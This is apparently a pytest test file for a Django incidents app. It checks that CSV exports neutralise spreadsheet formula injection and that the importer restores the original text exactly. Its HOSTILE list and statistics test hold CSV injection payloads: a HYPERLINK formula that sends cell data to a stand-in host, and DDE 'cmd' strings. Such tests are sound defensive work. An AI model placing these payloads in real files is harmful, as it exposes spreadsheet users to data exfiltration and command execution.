"""Formula-safe CSV: no cell of any CSV the app writes starts with a character a spreadsheet
would run, and the importer undoes exactly that protection (round trip unchanged)."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from incidents.csvsafe import ACTIVE, protect, unprotect
from incidents.interchange import PUBLIC, iter_csv
from incidents.models import Incident
from tests.factories import EstimateFactory, published_incident
from tests.test_import import run_import

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "''two apostrophes",
]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]


@given(st.text())
def test_protect_then_unprotect_gives_back_every_string(value):
    assert unprotect(protect(value)) == value
    assert not str(protect(value)).startswith(ACTIVE)


def test_exported_cells_never_start_with_an_active_character(client):
    for n, title in enumerate(HOSTILE):
        published_incident(slug=f"hostile-{n}", title=title, summary=title)
    text = b"".join(client.get("/incidents/export.csv").streaming_content).decode()
    found = cells(text)
    assert not [c for c in found if c.startswith(ACTIVE)], found
    for title in HOSTILE:
        assert protect(title) in found


def test_the_statistics_csv_is_protected_too():
    source_title = "=cmd|' /C calc'!A0"
    estimate = EstimateFactory(attributed_to="@evil", source__title=source_title)
    text = Client().get("/statistics.csv").content.decode()
    found = cells(text)
    assert not [c for c in found if c.startswith(ACTIVE)], found
    assert protect(estimate.attributed_to) in found and protect(source_title) in found


def test_the_csv_round_trip_restores_the_exact_text():
    # Titles are stripped by every write path (forms and imports); summaries are kept as typed.
    for n, text in enumerate(HOSTILE):
        published_incident(slug=f"hostile-{n}", title=text.strip(), summary=f"{text}\nline 2")
    first = "".join(iter_csv(Incident.objects.published().newest_first(), scope=PUBLIC))
    titles = sorted(Incident.objects.values_list("slug", "title", "summary"))
    Incident.objects.all().delete()

    report = run_import(first, filename="f.csv", publish=True)

    assert report.ok, report.problems
    assert sorted(Incident.objects.values_list("slug", "title", "summary")) == titles
    second = "".join(iter_csv(Incident.objects.published().newest_first(), scope=PUBLIC))
    assert second == first
